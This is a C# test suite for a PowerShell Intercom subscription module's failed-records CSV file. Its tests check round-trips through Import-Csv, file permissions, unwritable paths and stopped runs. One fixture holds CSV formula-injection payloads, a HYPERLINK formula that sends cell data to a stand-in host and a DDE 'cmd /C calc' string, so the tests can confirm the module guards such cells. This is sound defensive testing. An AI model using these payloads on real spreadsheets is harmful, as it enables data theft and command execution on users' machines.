using System.Globalization;
using System.Management.Automation;
using FakeIntercom;

namespace IntercomSubscriptions.Tests;

/// <summary>
/// The failed-records file as a runbook uses it: written by a run, read by Import-Csv, piped back in,
/// and again, through the real cmdlets and Import-Csv over HTTP to the fake; its permissions, its
/// place, and a file that cannot be written.
/// </summary>
public sealed class FailedRecordsTests : IntercomTestBase, IDisposable
{
    private readonly string _folder = Directory.CreateTempSubdirectory("failed-records-e2e-").FullName;

    public void Dispose() => Directory.Delete(_folder, recursive: true);

    private string PathOf(string name) => Path.Combine(_folder, name);

    private static string Text(object? value) => value is PSObject wrapped ? Text(wrapped.BaseObject) : value?.ToString() ?? "";

    private static dynamic Summary(ScriptResult result, string variable = "")
    {
        var summary = result.Output.Single(o => o.BaseObject.GetType().Name == "IntercomRunSummary");
        return new PSView(summary);
    }

    // Records of every shape a runbook pipes in, with contacts the fake does not have yet: CSV rows of
    // two shapes, hashtables, plain strings, and values a spreadsheet would run or that begin with the
    // characters the file guards (a real email may begin with '-', '+' or a quote).
    private const string MixedRecords = """
        $rows = @(
            1..40 | ForEach-Object { [pscustomobject]@{ email = "csv$_@example.com"; note = "row $_" } }
            1..20 | ForEach-Object { @{ contact_id = "ht$_" } }
            1..10 | ForEach-Object { "plain$_@example.com" }
            [pscustomobject]@{ email = '-dash@example.com'; note = '=HYPERLINK("http://x.example/?d="&A1,"click")' }
            [pscustomobject]@{ email = '+plus@example.com'; note = "+1+cmd|' /C calc'!A0" }
            [pscustomobject]@{ email = "'quote@example.com"; note = '@SUM(A1:A2)' }
            [pscustomobject]@{ external_id = '-u-7'; team = 'ops' }
            @{ external_id = '@u-8' }
        )
        """;

    private static readonly string[] MixedEmails = Enumerable.Range(1, 40).Select(i => $"csv{i}@example.com")
        .Concat(Enumerable.Range(1, 10).Select(i => $"plain{i}@example.com"))
        .Concat(new[] { "-dash@example.com", "+plus@example.com", "'quote@example.com" }).ToArray();

    private static readonly string[] MixedIds = Enumerable.Range(1, 20).Select(i => $"ht{i}").ToArray();

    private static readonly string[] MixedExternalIds = { "-u-7", "@u-8" };

    private const int MixedCount = 75;

    private List<string> AddMixedContacts()
    {
        var added = new List<string>();
        foreach (var (email, i) in MixedEmails.Select((e, i) => (e, i))) added.Add(Server.State.AddContact($"em{i:D3}", email: email).Id);
        foreach (var id in MixedIds) added.Add(Server.State.AddContact(id).Id);
        foreach (var (externalId, i) in MixedExternalIds.Select((x, i) => (x, i))) added.Add(Server.State.AddContact($"ex{i:D3}", externalId: externalId).Id);
        return added;
    }

    [Fact]
    public void The_recovery_loop_keeps_every_record_of_every_shape_through_three_passes_of_Import_Csv()
    {
        Connect();
        var first = Run(MixedRecords + """

            $first = $rows | Add-IntercomContactSubscription -SubscriptionId 108 -Consent opt_in -Summary -FailedRecordsPath $dir/failed-1.csv -ErrorAction SilentlyContinue
            $second = Import-Csv $first.FailedRecordsPath |
                Add-IntercomContactSubscription -SubscriptionId 108 -Consent opt_in -Summary -FailedRecordsPath $dir/failed-2.csv -ErrorAction SilentlyContinue
            $first; $second
            (Get-Content -Raw $dir/failed-1.csv) -match 'System\.'
            (Import-Csv $dir/failed-1.csv)[0].PSObject.Properties.Name -join ','
            (Import-Csv $dir/failed-2.csv)[0].PSObject.Properties.Name -join ','
            """, new() { ["dir"] = _folder });

        Assert.True(first.Errors.Count == 0, string.Join("\n", first.Errors.Select(e => e.ToString())));
        var summaries = first.Output.Take(2).Select(o => (dynamic)new PSView(o)).ToArray();
        Assert.Equal(new long[] { MixedCount, MixedCount }, summaries.Select(s => (long)s.Failed));
        Assert.Equal(new[] { PathOf("failed-1.csv"), PathOf("failed-2.csv") }, summaries.Select(s => (string)s.FailedRecordsPath));
        Assert.Equal(false, first.Output[2].BaseObject);
        // The union of the shapes' columns in the order first seen (a plain string's Email is the email column), then the
        // module's two; the same on the second pass, whose records carried the first pass's error columns.
        Assert.Equal("email,note,contact_id,external_id,team,IntercomErrorId,IntercomErrorMessage", Text(first.Output[3]));
        Assert.Equal(Text(first.Output[3]), Text(first.Output[4]));

        var contacts = AddMixedContacts().ToList();
        // A new connection, as the next job's: the last one remembers for 30 s that these emails had no contact.
        Connect();
        Server.ResetLog();
        var third = Run("""
            Import-Csv $dir/failed-2.csv | Add-IntercomContactSubscription -SubscriptionId 108 -Consent opt_in -Summary -FailedRecordsPath $dir/failed-3.csv
            @(Import-Csv $dir/failed-3.csv).Count
            """, new() { ["dir"] = _folder });

        Assert.Empty(third.Errors);
        var run = (dynamic)new PSView(third.Output[0]);
        Assert.Equal((long)MixedCount, (long)run.Succeeded);
        Assert.Equal(0L, (long)run.Failed);
        Assert.Equal(0, (int)third.Output[1].BaseObject);
        Assert.Equal(MixedCount, contacts.Count);
        Assert.All(contacts, id => Assert.Equal("opt_in", Server.State.GetChoices(id).GetValueOrDefault("108")));
    }

    [Fact]
    public void A_cell_is_exactly_what_the_record_held_guarded_where_a_spreadsheet_would_run_it_and_the_next_pass_writes_it_the_same()
    {
        // Property-style: 300 random values of the characters that matter (formula triggers, quotes,
        // separators, line breaks, non-ASCII), as cells and as column names.
        var random = new Random(20251207);
        var alphabet = "=+-@\t\r\n'\",; aZ9é".ToCharArray();
        string RandomText() => new(Enumerable.Range(0, random.Next(1, 10)).Select(_ => alphabet[random.Next(alphabet.Length)]).ToArray());
        var values = Enumerable.Range(0, 300).Select(_ => RandomText()).ToArray();
        var names = new[] { "=sum", "-minus", "'quoted", "a,b", "a\"b", "@at" };
        Connect();

        var result = Run("""
            $rows = for ($i = 0; $i -lt $values.Count; $i++) {
                $row = [ordered]@{ contact_id = "missing$i"; note = $values[$i] }
                $row[$names[$i % $names.Count]] = $values[($i + 1) % $values.Count]
                [pscustomobject]$row
            }
            $first = $rows | Add-IntercomContactSubscription -SubscriptionId 108 -Consent opt_in -Summary -FailedRecordsPath $dir/p1.csv -ErrorAction SilentlyContinue
            $second = Import-Csv $dir/p1.csv | Add-IntercomContactSubscription -SubscriptionId 108 -Consent opt_in -Summary -FailedRecordsPath $dir/p2.csv -ErrorAction SilentlyContinue
            ,@(Import-Csv $dir/p1.csv)
            ,@(Import-Csv $dir/p2.csv)
            """, new() { ["dir"] = _folder, ["values"] = values, ["names"] = names });

        Assert.Empty(result.Errors);
        var pass1 = ((object[])result.Output[0].BaseObject).Cast<PSObject>().ToList();
        var pass2 = ((object[])result.Output[1].BaseObject).Cast<PSObject>().ToList();
        Assert.Equal(values.Length, pass1.Count);
        static string Guarded(string value) => value.Length > 0 && "=+-@\t\r\n'".Contains(value[0]) ? "'" + value : value;
        for (var i = 0; i < values.Length; i++)
        {
            Assert.Equal($"missing{i}", Text(pass1[i].Properties["contact_id"].Value));
            Assert.Equal(Guarded(values[i]), Text(pass1[i].Properties["note"].Value));
            Assert.Equal(Guarded(values[(i + 1) % values.Length]), Text(pass1[i].Properties[Guarded(names[i % names.Length])].Value));
            // The next pass reads each cell back as it was and writes it the same: the file is a fixed point of the loop.
            Assert.Equal(
                pass1[i].Properties.Select(p => p.Name + "=" + (p.Name.StartsWith("IntercomError", StringComparison.Ordinal) ? "" : Text(p.Value))),
                pass2[i].Properties.Select(p => p.Name + "=" + (p.Name.StartsWith("IntercomError", StringComparison.Ordinal) ? "" : Text(p.Value))));
        }
        Assert.Equal(["contact_id", "note", .. names.Select(Guarded), "IntercomErrorId", "IntercomErrorMessage"],
            pass1[0].Properties.Select(p => p.Name));
        // No cell a spreadsheet would take for a formula.
        var text = File.ReadAllText(PathOf("p1.csv"));
        Assert.DoesNotMatch("(^|,)\"[=+\\-@\t\r\n]", text.Replace("\r\n", "\n").Replace("\n\"", "\n,\""));
    }

    [Fact]
    public void Without_a_path_past_what_the_summary_keeps_the_file_goes_to_the_modules_private_folder_in_temp()
    {
        var folderExisted = Directory.Exists(Path.Combine(Path.GetTempPath(), "IntercomSubscriptions-" + Environment.UserName));
        Connect();
        var result = Run("""
            1..105 | ForEach-Object { [pscustomobject]@{ contact_id = "gone$_" } } |
                Add-IntercomContactSubscription -SubscriptionId 108 -Consent opt_in -Summary -ErrorAction SilentlyContinue
            """);
        var path = (string)Summary(result).FailedRecordsPath;
        try
        {
            var folder = Path.GetDirectoryName(path)!;
            Assert.Equal(Path.GetTempPath().TrimEnd(Path.DirectorySeparatorChar), Path.GetDirectoryName(folder));
            Assert.StartsWith("IntercomSubscriptions-", Path.GetFileName(folder), StringComparison.Ordinal);
            if (!OperatingSystem.IsWindows())
            {
                Assert.Equal(UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute, File.GetUnixFileMode(folder));
                Assert.Equal(UnixFileMode.UserRead | UnixFileMode.UserWrite, File.GetUnixFileMode(path));
            }
            Assert.Equal(106, File.ReadAllLines(path).Length);
        }
        finally
        {
            // Nothing left behind: the file, and the folder if this test made it.
            File.Delete(path);
            if (!folderExisted && !Directory.EnumerateFileSystemEntries(Path.GetDirectoryName(path)!).Any())
                Directory.Delete(Path.GetDirectoryName(path)!);
        }
    }

    [Fact]
    public void Without_a_path_a_run_whose_errors_the_summary_keeps_writes_no_file()
    {
        Connect();
        var result = Run("""
            [pscustomobject]@{ contact_id = 'gone1' } | Add-IntercomContactSubscription -SubscriptionId 108 -Consent opt_in -Summary -ErrorAction SilentlyContinue
            """);

        Assert.Null(Summary(result).FailedRecordsPath);
        Assert.Equal(1L, (long)Summary(result).Failed);
    }

    [Theory]
    [InlineData("no-such-folder/failed.csv")]
    [InlineData("a-file/failed.csv")]
    public void A_file_that_cannot_be_written_is_a_warning_and_a_note_and_every_applied_change_is_still_reported(string relative)
    {
        File.WriteAllText(PathOf("a-file"), "");
        var ids = Enumerable.Range(0, 30).Select(i => $"ok{i:D2}").ToArray();
        foreach (var id in ids) Server.State.AddContact(id);
        Connect();
        var rows = ids.Select((id, i) => $"{{ contact_id = '{(i % 3 == 0 ? "gone" + i : id)}' }}");

        var result = Run($$"""
            @({{string.Join("; ", rows.Select(r => "[pscustomobject]@" + r))}}) |
                Add-IntercomContactSubscription -SubscriptionId 108 -Consent opt_in -FailedRecordsPath $path -SummaryVariable run -ErrorAction SilentlyContinue |
                Measure-Object | ForEach-Object Count
            $run
            """, new() { ["path"] = PathOf(relative) });

        var warning = Assert.Single(result.Warnings);
        Assert.Contains(PathOf(relative), warning);
        var run = (dynamic)new PSView(result.Output[1]);
        Assert.Equal("Completed", run.Status.ToString());
        Assert.Null(run.FailedRecordsPath);
        Assert.Equal(warning, Assert.Single((IEnumerable<string>)run.Notes));
        Assert.Equal(10L, (long)run.Failed);
        Assert.Equal(10, ((IEnumerable<ErrorRecord>)run.Errors).Count());
        // Every change the fake applied is in the output and counted.
        var applied = ids.Count(id => Server.State.GetChoices(id).ContainsKey("108"));
        Assert.Equal(20, applied);
        Assert.Equal(20L, (long)run.Succeeded);
        Assert.Equal(20, (int)result.Output[0].BaseObject);
    }

    [Fact]
    public void A_path_of_another_provider_ends_the_command_before_any_request()
    {
        Connect();
        Server.ResetLog();

        var result = Run("Add-IntercomContactSubscription -ContactId gone1 -SubscriptionId 108 -Consent opt_in -FailedRecordsPath Env:\\failed");

        var error = Assert.Single(result.Errors);
        Assert.StartsWith("IntercomInvalidArgument", error.FullyQualifiedErrorId, StringComparison.Ordinal);
        Assert.Contains("Environment", error.ToString());
        Assert.Empty(Server.Requests);
    }

    [Fact]
    public void A_relative_path_is_relative_to_the_current_location_and_contacts_given_as_parameters_are_written_under_their_parameter()
    {
        Connect();

        var result = Run("""
            Set-Location $dir
            Add-IntercomContactSubscription -ExternalId no-1, no-2 -SubscriptionId 108 -Consent opt_in -FailedRecordsPath rel.csv -ErrorAction SilentlyContinue
            Import-Csv rel.csv | ForEach-Object { "$($_.ExternalId) $($_.IntercomErrorId)" }
            """, new() { ["dir"] = _folder });

        Assert.Equal(["no-1 IntercomContactNotFound", "no-2 IntercomContactNotFound"], result.Output.Select(Text));
        Assert.True(File.Exists(PathOf("rel.csv")));
    }

    [Fact]
    public void A_stopped_run_leaves_a_file_whose_rows_each_name_their_contact()
    {
        Server.Faults.LatencyMs = 30;
        Connect();
        var rows = Enumerable.Range(0, 400).Select(i => Row("contact_id", $"gone{i:D3}")).ToArray();
        Server.ResetLog();

        Shell.Run("$rows | Add-IntercomContactSubscription -SubscriptionId 108 -Consent opt_in -ThrottleLimit 4 -FailedRecordsPath $path -SummaryVariable run -ErrorAction SilentlyContinue",
            new() { ["rows"] = rows, ["path"] = PathOf("stopped.csv") },
            whileRunning: shell =>
            {
                var deadline = DateTime.UtcNow.AddSeconds(30);
                while (Server.CallCount("POST /contacts/{id}/subscriptions") < 20 && DateTime.UtcNow < deadline) Thread.Sleep(20);
                Assert.True(Task.Run(shell.Stop).Wait(TimeSpan.FromSeconds(10)), "Stop() did not return");
            });

        var check = Run("$run.Status; $run.Failed; @(Import-Csv $path | Where-Object contact_id -like 'gone*').Count; @(Import-Csv $path).Count",
            new() { ["path"] = PathOf("stopped.csv") });
        Assert.Equal("Stopped", Text(check.Output[0]));
        var failed = Convert.ToInt32(check.Output[1].BaseObject, CultureInfo.InvariantCulture);
        Assert.InRange(failed, 1, 399);
        Assert.Equal(failed, Convert.ToInt32(check.Output[2].BaseObject, CultureInfo.InvariantCulture));
        Assert.Equal(failed, Convert.ToInt32(check.Output[3].BaseObject, CultureInfo.InvariantCulture));
    }

    private static PSObject Row(string column, string value)
    {
        var row = new PSObject();
        row.Properties.Add(new PSNoteProperty(column, value));
        return row;
    }
}
